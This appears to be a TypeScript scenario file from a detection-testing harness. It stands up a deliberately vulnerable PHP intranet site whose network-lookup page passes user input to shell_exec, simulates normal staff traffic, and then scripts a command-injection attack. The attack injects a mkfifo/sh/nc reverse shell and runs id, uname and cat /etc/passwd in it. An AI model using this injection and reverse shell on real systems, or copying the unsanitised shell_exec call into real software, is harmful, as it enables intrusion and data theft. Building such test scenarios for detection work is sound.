/**
 * A small PHP site (an equipment-rental shop's intranet) on nginx and
 * PHP-FPM. Its "network tool" page hands its query to the shell through
 * shell_exec: command injection. The attacker probes it, then injects the
 * classic FIFO reverse shell (mkfifo + sh + nc) back to a listener, and runs
 * a few commands in that shell by hand before leaving.
 */
import type { Socket } from 'node:net';
import type { Prng } from '../../detect/lib/prng.js';
import { http, httpOk, visit } from '../clients/http.js';
import type { Scenario, ScenarioContext } from '../types.js';

const ITEMS: [string, string, number][] = [
  ['drill', 'tools', 12],
  ['ladder', 'tools', 8],
  ['sander', 'tools', 10],
  ['tent', 'outdoor', 25],
  ['kayak', 'outdoor', 40],
  ['stove', 'outdoor', 9],
  ['projector', 'office', 30],
  ['speaker', 'office', 15],
  ['whiteboard', 'office', 6],
  ['trailer', 'vehicles', 55],
  ['van', 'vehicles', 90],
];
const CATEGORIES = [...new Set(ITEMS.map((i) => i[1]))];
const USERS = ['amara', 'bo', 'carla', 'dev', 'eitan', 'freya', 'gus', 'hiro', 'ines'];
// What staff look up with the tool: hosts that /etc/hosts always has, services from /etc/services, and the odd name that is not there.
const HOST_QUERIES = ['localhost', '127.0.0.1', 'ip6-localhost', '::1', 'printer.office', 'nas'];
const SERVICE_QUERIES = ['http', 'https', 'ssh', 'smtp', 'imap', 'postgresql', 'mysql', 'ntp', 'domain', '443', '8080'];

const page = (title: string, body: string) =>
  `<?php $title = ${JSON.stringify(title)}; require __DIR__ . '/inc/head.php'; ?>\n${body}\n<?php require __DIR__ . '/inc/foot.php'; ?>\n`;

const SITE: Record<string, string> = {
  '/srv/www/inc/head.php':
    '<!doctype html><html><head><title><?= htmlspecialchars($title) ?> - RentAll</title></head><body>\n' +
    '<nav><a href="/">home</a> <a href="/items.php">items</a> <a href="/feedback.php">feedback</a> <a href="/tools.php">network tool</a></nav>\n' +
    '<h1><?= htmlspecialchars($title) ?></h1>\n',
  '/srv/www/inc/foot.php': '<footer>RentAll intranet &middot; <?= date("Y-m-d H:i") ?></footer></body></html>\n',
  '/srv/www/index.php': page(
    'Welcome',
    '<p>Hello <?= htmlspecialchars($_GET["user"] ?? "guest") ?>.</p>\n' +
      '<?php $n = count(file("/srv/data/items.csv")) - 1; ?><p><?= $n ?> items in the catalogue.</p>',
  ),
  '/srv/www/items.php': page(
    'Items',
    '<?php\n' +
      '$cat = $_GET["category"] ?? "";\n' +
      '$rows = array_map("str_getcsv", file("/srv/data/items.csv", FILE_IGNORE_NEW_LINES));\n' +
      'array_shift($rows);\n' +
      'echo "<table>";\n' +
      'foreach ($rows as [$name, $category, $price]) {\n' +
      '  if ($cat !== "" && $cat !== $category) continue;\n' +
      '  printf("<tr><td>%s</td><td>%s</td><td>%d/day</td></tr>\\n", htmlspecialchars($name), htmlspecialchars($category), $price);\n' +
      '}\n' +
      'echo "</table>";\n' +
      '?>',
  ),
  '/srv/www/feedback.php': page(
    'Feedback',
    '<?php\n' +
      'if ($_SERVER["REQUEST_METHOD"] === "POST") {\n' +
      '  $name = preg_replace("/[^a-z]/", "", $_POST["name"] ?? "");\n' +
      '  $text = str_replace(["\\r", "\\n"], " ", substr($_POST["message"] ?? "", 0, 500));\n' +
      '  file_put_contents("/srv/data/feedback.log", date("c") . " $name: $text\\n", FILE_APPEND | LOCK_EX);\n' +
      '  echo "<p>Thanks, " . htmlspecialchars($name) . ".</p>";\n' +
      '}\n' +
      '?>\n' +
      '<form method="post"><input name="name"><textarea name="message"></textarea><button>send</button></form>',
  ),
  // The vulnerability: the query goes to the shell as it came.
  '/srv/www/tools.php': page(
    'Network tool',
    '<?php\n' +
      '$db = ($_GET["type"] ?? "hosts") === "services" ? "services" : "hosts";\n' +
      '$q = $_GET["q"] ?? "";\n' +
      'if ($q !== "") {\n' +
      '  $out = shell_exec("getent $db " . $q);\n' +
      '  echo "<pre>" . htmlspecialchars($out ?: "not found") . "</pre>";\n' +
      '}\n' +
      '?>\n' +
      '<form><select name="type"><option>hosts</option><option>services</option></select><input name="q"><button>look up</button></form>',
  ),
};

const NGINX_CONF = `user www-data;
worker_processes 2;
pid /run/nginx.pid;
error_log stderr warn;
events { worker_connections 256; }
http {
  include /etc/nginx/mime.types;
  access_log /var/log/nginx/access.log;
  server {
    listen 127.0.0.1:@PORT@;
    root /srv/www;
    index index.php;
    location /inc/ { deny all; }
    location ~ \\.php$ {
      try_files $uri =404;
      include /etc/nginx/fastcgi_params;
      fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;
      fastcgi_pass unix:/run/php/fpm.sock;
    }
  }
}
`;

// A fixed set of workers: no process is started on demand, so a new process in a recording is the application's own doing.
const FPM_POOL = `[www]
user = www-data
group = www-data
listen = /run/php/fpm.sock
listen.owner = www-data
listen.group = www-data
pm = static
pm.max_children = 3
`;

// The port is known only at run time: the entrypoint writes it into nginx's configuration.
const START = `#!/bin/sh
set -e
sed "s/@PORT@/$1/" /etc/nginx/nginx.conf.in > /etc/nginx/nginx.conf
mkdir -p /run/php
/usr/sbin/php-fpm8.2 --daemonize
exec /usr/sbin/nginx -g 'daemon off;'
`;

const itemsCsv = 'name,category,price\n' + ITEMS.map((i) => i.join(',')).join('\n') + '\n';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Send one command line into the reverse shell and collect what comes back until it goes quiet (bounded). */
async function shellCommand(sock: Socket, line: string, quietMs: number, maxMs: number): Promise<string> {
  let out = '';
  let last = Date.now();
  const onData = (d: Buffer) => {
    out += d.toString('utf8');
    last = Date.now();
  };
  sock.on('data', onData);
  sock.write(line + '\n');
  const deadline = Date.now() + maxMs;
  while (Date.now() < deadline && (out === '' || Date.now() - last < quietMs)) await sleep(25);
  sock.off('data', onData);
  return out;
}

export const phpCmdInject: Scenario = {
  name: 'php-cmdinject',
  application: 'nginx + PHP-FPM intranet site (catalogue, feedback form, network lookup tool)',
  attackKind: 'command injection → reverse shell',
  attack: 'the network tool passes its query to shell_exec: the attacker probes it with id, then injects a mkfifo/sh/nc reverse shell to a listener and runs id, uname, cat /etc/passwd and ls in it',
  image: {
    name: 'php-cmdinject',
    packages: ['nginx-light', 'php8.2-fpm', 'netcat-openbsd', 'netbase'],
    files: {
      ...SITE,
      '/srv/data/items.csv': itemsCsv,
      '/etc/nginx/nginx.conf.in': NGINX_CONF,
      '/etc/php/8.2/fpm/pool.d/www.conf': FPM_POOL,
      // Look-ups stay on the machine: names come from /etc/hosts only, never from DNS.
      '/etc/nsswitch.conf': 'passwd: files\ngroup: files\nshadow: files\nhosts: files\nservices: files\nprotocols: files\n',
      '/usr/local/bin/start-site': { text: START, mode: 0o755 },
    },
    setup: 'touch /srv/data/feedback.log && chown www-data:www-data /srv/data/feedback.log',
  },
  command: (ctx) => ['/usr/local/bin/start-site', String(ctx.port)],
  async ready(ctx) {
    await httpOk({ port: ctx.port, path: '/items.php', timeoutMs: 3000 });
  },
  async session(ctx: ScenarioContext, rng: Prng) {
    const user = USERS[rng.int(USERS.length)]!;
    const steps = 1 + rng.int(5);
    for (let i = 0; i < steps && !ctx.signal.aborted; i++) {
      const pick = rng.float();
      let path: string;
      let method = 'GET';
      let body: string | undefined;
      if (pick < 0.2) path = `/index.php?user=${user}`;
      else if (pick < 0.5) path = rng.float() < 0.4 ? '/items.php' : `/items.php?category=${CATEGORIES[rng.int(CATEGORIES.length)]!}`;
      else if (pick < 0.7) {
        method = 'POST';
        path = '/feedback.php';
        const item = ITEMS[rng.int(ITEMS.length)]![0];
        body = `name=${user}&message=${encodeURIComponent(`the ${item} was ${['great', 'fine', 'late', 'dirty', 'perfect'][rng.int(5)]!}`)}`;
      } else if (pick < 0.85) path = `/tools.php?type=hosts&q=${encodeURIComponent(HOST_QUERIES[rng.int(HOST_QUERIES.length)]!)}`;
      else path = `/tools.php?type=services&q=${SERVICE_QUERIES[rng.int(SERVICE_QUERIES.length)]!}`;
      await visit(ctx, { method, path, body, headers: body !== undefined ? { 'Content-Type': 'application/x-www-form-urlencoded' } : {} });
    }
  },
  async attackRun(ctx, rng) {
    const inject = async (payload: string) => {
      const path = `/tools.php?type=hosts&q=${encodeURIComponent(`localhost;${payload}`)}`;
      ctx.log(`GET ${path}`);
      return http({ port: ctx.port, path, timeoutMs: 15_000 });
    };
    // The probe: does the query reach a shell?
    await inject(['id', 'whoami', 'echo $((7*191))'][rng.int(3)]!);
    const catcher = await ctx.listen();
    const fifo = `/tmp/.${['x', 'sess', 'f', 'cache'][rng.int(4)]!}${rng.int(1000)}`;
    // Detached, so the request returns at once and the shell outlives it.
    const waiting = catcher.nextConnection(15_000);
    await inject(`(rm -f ${fifo}; mkfifo ${fifo}; /bin/sh -i <${fifo} 2>&1 | nc 127.0.0.1 ${catcher.port} >${fifo}; rm -f ${fifo}) >/dev/null 2>&1 &`);
    const sock = await waiting;
    try {
      const commands = ['id', 'uname -a', 'cat /etc/passwd', rng.float() < 0.5 ? 'ls -la /srv/www' : 'ls -la /', rng.float() < 0.5 ? 'ps aux 2>/dev/null || ls /proc' : 'cat /srv/www/tools.php'];
      for (const c of commands) {
        ctx.log(`shell: ${c}`);
        await shellCommand(sock, c, 150, 3000);
      }
      ctx.log('shell: exit');
      await shellCommand(sock, 'exit', 150, 1000);
    } finally {
      // The shell has exited; closing the socket ends nc too.
      sock.destroy();
    }
  },
  // The FIFO (mknodat) and the shell's listing (getdents64) are the attack's alone; connect (nc dialing out) and dup2 (the shell's redirections) are its too.
  evidence: ['mknodat', 'connect', 'dup2', 'getdents64'],
  // The reverse shell: the shell on the FIFO and the nc that carries it.
  evidenceExecs: ['mkfifo', 'nc'],
};
